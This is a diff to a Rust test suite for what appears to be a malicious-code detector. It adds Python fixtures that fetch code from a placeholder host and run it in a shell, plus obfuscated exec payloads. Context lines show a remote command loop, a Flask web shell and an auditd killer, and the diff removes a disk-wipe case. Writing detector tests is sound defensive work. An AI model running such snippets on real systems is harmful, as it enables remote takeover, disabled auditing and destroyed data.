@@ -1520,19 +1520,34 @@ fn object_model_descriptors_records_deques_and_web_requests() {
         "CRD102",
         "import collections, os, socket\nsock = socket.create_connection(('relay.example.net', 443))\npending = collections.deque()\ndef lines():\n    while True:\n        pending.extend(sock.recv(2048).decode().splitlines())\n        while pending:\n            yield pending.popleft()\nfor cmd in lines():\n    os.popen(cmd)\n",
     );
+    // Downloaded code given inline to a shell that is no well-known one, or through a
+    // wrapper: every word of the argv is code.
+    fires(
+        "CRD102",
+        "import subprocess, urllib.request\ncode = urllib.request.urlopen('https://x.example.net/c').read().decode()\nsubprocess.run(['mksh', '-c', code])\nsubprocess.run(['flock', '/tmp/l', 'sh', '-c', code])\n",
+    );
     // A web shell: a request's parameter run by the shell.
     fires(
         "CRD102",
         "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/x', methods=['POST'])\ndef x():\n    return subprocess.run(request.form['c'], shell=True, capture_output=True).stdout\napp.run(host='0.0.0.0')\n",
     );
-    // Every block device found in /sys/block overwritten.
-    fires(
-        "CRD104",
-        "import os\nfor name in os.listdir('/sys/block'):\n    with open('/dev/' + name, 'r+b', buffering=0) as fh:\n        fh.write(bytes(1 << 20))\n",
-    );
     // Daemons found in /proc signalled through a pidfd.
     fires(
         "CRD107",
         "import os, signal\nfor entry in os.listdir('/proc'):\n    if entry.isdigit() and open(f'/proc/{entry}/comm').read().strip() == 'auditd':\n        fd = os.pidfd_open(int(entry))\n        signal.pidfd_send_signal(fd, signal.SIGKILL)\n",
+    );
+}
+
+#[test]
+fn payloads_decoded_by_unary_operators_and_arrays() {
+    // `~asset` runs `__invert__`, which executes the XOR-decoded text.
+    fires(
+        "CRD103",
+        "import itertools, operator\nKEY = b'k'\nBLOB = bytes.fromhex('1b1a0a0505')\nclass Asset:\n    def __str__(self):\n        return bytes(map(operator.xor, BLOB, itertools.cycle(KEY))).decode()\n    def __invert__(self):\n        exec(str(self), {})\n~Asset()\n",
+    );
+    // Code points shifted into an `array("B")`, its bytes compiled and run.
+    fires(
+        "CRD103",
+        "import array\nCODES = [115, 117, 108, 113, 119, 43, 52, 44]\ncode = array.array('B', (c - 3 for c in CODES)).tobytes().decode()\nexec(compile(code, 'x', 'exec'))\n",
     );
 }
